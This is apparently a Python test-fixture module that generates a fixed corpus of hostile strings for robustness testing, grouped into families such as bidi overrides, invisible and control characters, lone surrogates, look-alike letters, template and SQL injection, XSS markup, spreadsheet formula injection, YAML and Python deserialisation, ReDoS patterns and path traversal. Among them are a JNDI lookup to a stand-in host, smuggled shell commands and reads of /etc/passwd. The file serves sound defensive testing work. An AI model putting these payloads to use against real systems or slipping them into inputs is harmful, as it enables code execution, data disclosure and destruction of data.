"""Hostile texts: at least five hundred different strings that have done harm somewhere, each with the family it is of.

Nothing goes in; the strings come out, always the same ones in the same order. Half characters (lone surrogates) and
control characters are among them: that is the point.
"""

from __future__ import annotations

import itertools
import unicodedata
from collections.abc import Iterator

__all__ = ["FAMILIES", "corpus"]

_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_INVISIBLE = "\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\ufeff\u00ad\u034f\u180e\u115f\u3164\uffa0\u2800\u00a0"
_NON_CHARACTERS = "\ufdd0\ufdd1\ufdef\ufffe\uffff\ufff9\ufffa\ufffb\ufffc\ufffd\U0001fffe\U0010ffff\ue000\uf8ff"
_LINES = ("\r", "\n", "\r\n", "\n\r", "\u2028", "\u2029", "\u0085", "\v", "\f", "\x1c", "\x1d", "\x1e", "\t")


def _direction() -> Iterator[str]:
    for sign in _BIDI:
        yield f"Jan{sign}nadnas"
        yield f"{sign}factuur\u202cfdp.exe"
    yield "\u202e" * 50 + "omgekeerd"
    yield "נועה לוי \u202eomgekeerd\u202c محمد العربي"
    yield "\u2067א\u2069(b)\u2066c\u2069"
    yield "مرحبا Jan 123 שלום"


def _invisible() -> Iterator[str]:
    for sign in _INVISIBLE:
        yield f"on{sign}zicht{sign}baar"
        yield sign
    yield "tag\U000e0041\U000e0042\U000e007f"
    yield "kies\ufe0e\ufe0fnu"


def _marks() -> Iterator[str]:
    for height in (1, 5, 40, 200):
        yield "Z" + "\u0300\u0489\u20dd\u0334"[: min(4, height)] * height + "algo"
    for mark in "\u0300\u0301\u0307\u0323\u0327\u0338\u0345\u20d0\u20e3\u3099":
        yield f"{mark}los"
        yield f"e{mark}{mark}f"
    yield "ᄀ" * 20
    yield "กำกูููููู"
    yield "क्षि नमस्ते"
    yield "﷽﷽﷽"


def _pairs() -> Iterator[str]:
    """The same word composed and taken apart, and what normalising makes longer or other."""
    for word in ("é", "Zoë", "Åström", "ñandú", "Çelik", "한글", "ệ", "ﬁ", "ǆ", "Ω", "Å", "Ĳ", "ß", "ẞ", "ı", "İ"):
        for form in ("NFC", "NFD", "NFKC", "NFKD"):
            yield f"{form} {unicodedata.normalize(form, word)}"
    yield from ("\u0958\u0959\ufb1d", "\U0001d15e\U0001d160", "\u212a\u2126\u212b", "q\u0307\u0323", "q\u0323\u0307")


def _emoji() -> Iterator[str]:
    yield from (
        "👨‍👩‍👧‍👦",
        "👩🏿‍❤️‍💋‍👨🏻",
        "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
        "🇳🇱🇳🇱🇳",
        "👍🏽👍🏿🏿",
        "1️⃣#️⃣",
        "🫱🏻‍🫲🏿",
        "👁️‍🗨️",
        "🤦🏼‍♂️" * 20,
        "☠️",
        "😀" * 100,
    )
    yield from ("\u200d👩", "👩\u200d", "\ufe0f", "🏽", "💩\u0301")


def _halves() -> Iterator[str]:
    for half in ("\ud800", "\udbff", "\udc00", "\udfff", "\udcff"):
        yield half
        yield f"half{half}teken"
        yield f"{half}{half}"
    yield "\udc00\ud800 verkeerd om"


def _controls() -> Iterator[str]:
    for code in (*range(0x20), *range(0x7F, 0xA0)):
        yield f"bestuur{chr(code)}teken"
    yield "\x1b[31mrood\x1b[0m\x1b]0;titel\x07"
    yield "\x00" * 40
    yield "C:\\\x00.pdf"


def _line_ends() -> Iterator[str]:
    for end in _LINES:
        yield f"regel een{end}regel twee"
        yield f"{end}{end}{end}einde{end}"
    yield "log\r\n2026-11-22T14:32 vernietigd dossier"
    yield "2026 gelukt\rOverschreven"


def _look_alikes() -> Iterator[str]:
    yield from (
        "Jаn",
        "раураl",
        "Ｊａｎ",
        "𝕁𝕒𝕟",
        "Јаn ‹naam›",
        "rn m",
        "l1I|",
        "О0o",
        "ᎫᎪN",
        "ɑԁmіn",
        "S․ Jansen",
        "⁄⁄",
    )
    yield from ("−1", "１２３", "٣٤٥", "½ ²", "…", "‚‘’‛“”„‟", "＜script＞", "﹤b﹥", "；－－", "ﾠ", "︵︶", "⅓⅔")


def _templates() -> Iterator[str]:
    for body in (
        "7*7",
        "7 * 7",
        "config",
        "''.__class__.__mro__",
        "self._TemplateReference__context",
        "r.head",
        "x|safe",
    ):
        yield from (f"{{{{{body}}}}}", f"${{{body}}}", f"#{{{body}}}", f"<%= {body} %>", f"{{% print({body}) %}}")
        yield from (f"[[{body}]]", f"@({body})", f"{{{body}}}", f"`{body}`")
    yield from (
        "{% for a in r %}x{% endfor %}",
        "{% include '/etc/passwd' %}",
        "{% raw %}",
        "{# weg #}",
        "{{",
        "}}",
        "{%",
    )
    yield from (
        "%s%n%x%d",
        "%(naam)s",
        "%%",
        "%1",
        "%n",
        "{0}",
        "{naam}",
        "{0.__class__}",
        "{cap}",
        "{name}",
        "{}{}{}",
        "%1$s",
    )
    yield from (
        "&amp;",
        "&lt;b&gt;",
        "&#38;",
        "&#x26;",
        "&nbsp;",
        "&eacute;",
        "&x;",
        "& &",
        "]]>",
        "<![CDATA[x]]>",
        "<?xml?>",
    )
    yield from (
        "${jndi:ldap://x.example/a}",
        "$(touch /tmp/rk)",
        "`touch /tmp/rk`",
        "| touch /tmp/rk",
        "&& touch /tmp/rk",
    )


def _markup() -> Iterator[str]:
    tags = (
        "para",
        "b",
        "i",
        "br/",
        "h1",
        "p",
        "cell",
        "row",
        "table",
        "title",
        "document",
        "sealfield",
        "pagebreak/",
        "font",
    )
    for tag in tags:
        yield f"<{tag}>"
        yield f"</{tag}>"
        yield f"<{tag.strip('/')}>vet</{tag.strip('/')}>"
    yield from (
        "<font size=500>groot",
        "<b>vet",
        "<h1>Jan",
        "<!-- weg -->",
        "<!DOCTYPE x [<!ENTITY a 'b'>]>",
        "<<",
        "<",
        ">",
    )
    yield from ('<img src="file:///etc/passwd">', "<img src='/etc/hostname'/>", '<img src="http://x.example/a.png">')
    yield from (
        '<a href="javascript:alert(1)">klik</a>',
        "<script>alert(1)</script>",
        '<svg onload="x">',
        "<iframe src=x>",
    )
    yield from ('x" who="Moeder" stance="eens', "' tone='warning", '"/><p>ingevoegd</p>', "</p></cell></row></table>")
    yield from (
        "<html><body bgcolor=red>",
        "<qt>rijk</qt>",
        "<style>*{color:red}</style>",
        "<object data=x>",
        "<ol><li>a",
    )
    yield from (
        "[klik](file:///etc/passwd)",
        "![beeld](http://x.example/a.png)",
        "# kop",
        "**vet**",
        "| a | b |\n|---|---|",
    )


def _languages() -> Iterator[str]:
    yield from (
        '#read("/etc/passwd")',
        '#eval("1+1")',
        '#import "x.typ"',
        "#let a = 49",
        "$ x^2 $",
        "#[vet]",
        "@label",
        "= kop",
    )
    yield from (
        "\\input{/etc/passwd}",
        "\\write18{touch /tmp/rk}",
        "\\def\\a{\\a\\a}",
        "\\\\",
        "\\u0041",
        "\\x41",
        "\\n",
        "$$",
    )
    yield from (
        "' OR '1'='1",
        "'; DROP TABLE event; --",
        '"; --',
        "1; DELETE FROM head",
        "' UNION SELECT text FROM kv --",
        "/*",
    )
    yield from (
        '" * NEAR',
        "NEAR(a b, 5)",
        "AND OR NOT",
        "a*",
        "^a",
        "a:b",
        "- a",
        '"',
        '""',
        "(",
        ")",
        "search : x",
        "{a b} : c",
    )
    yield from (
        "=cmd|' /C calc'!A0",
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        '=HYPERLINK("http://x.example")',
        "\t=1+1",
        "|calc",
    )
    yield from (
        ";",
        "--",
        ",",
        "a,b;c\td",
        '"a"";"b"',
        "a\\,b",
        "#REF!",
        "0x10",
        "1e309",
        "NaN",
        "-0",
        "012",
        "no",
        "null",
        "~",
    )
    yield from (
        "!!python/object/apply:os.system [id]",
        "- a: b",
        "a: &x [*x]",
        "yes",
        "{a: b}",
        "--- ",
        "...",
        "? x",
        "*x",
        "%YAML",
    )
    yield from (
        "__import__('os').system('id')",
        "().__class__",
        "lambda: 0",
        "eval('7*7')",
        "javascript:alert(1)",
        "data:,x",
    )
    yield from ("(a+)+$", "^(([a-z])+.)+[A-Z]([a-z])+$", "[[:alpha:]]", "\\d{1000000}", ".*.*.*x")
    yield from (
        "../../etc/passwd",
        "..\\..\\x",
        "/etc/passwd",
        "C:\\Windows",
        "\\\\server\\map",
        "file:///etc/passwd",
        "CON",
        "NUL.pdf",
    )
    yield from (
        '{"a": "b"}',
        '","value":"x',
        '\\"',
        '"}],"kind":"sealed',
        "BT /F1 12 Tf (x) Tj ET",
        "endstream endobj",
        "%PDF-1.7",
    )


def _sizes() -> Iterator[str]:
    yield from (
        " ",
        "  ",
        "a",
        "-",
        "0",
        "x" * 255,
        "x" * 300,
        "woord " * 100,
        "é" * 500,
        "\u00e9" * 255,
        "W" * 1000,
        "." * 700,
    )
    yield from (
        "a b",
        " spatie voor en na ",
        "dubbel  spatie",
        "zin.zin.zin",
        "lang-woord-" * 40,
        "a/b/" * 60,
        "\\" * 64,
        "'" * 64,
    )


FAMILIES = {
    "direction": _direction,
    "invisible": _invisible,
    "marks": _marks,
    "pairs": _pairs,
    "emoji": _emoji,
    "halves": _halves,
    "controls": _controls,
    "line ends": _line_ends,
    "look-alikes": _look_alikes,
    "templates": _templates,
    "markup": _markup,
    "languages": _languages,
    "sizes": _sizes,
    "not characters": lambda: (f"geen{sign}teken" for sign in _NON_CHARACTERS),
}
"""Each kind of harm, and what makes its strings."""


def corpus() -> tuple[str, ...]:
    """Every string, each once."""
    return tuple(dict.fromkeys(itertools.chain.from_iterable(make() for make in FAMILIES.values())))
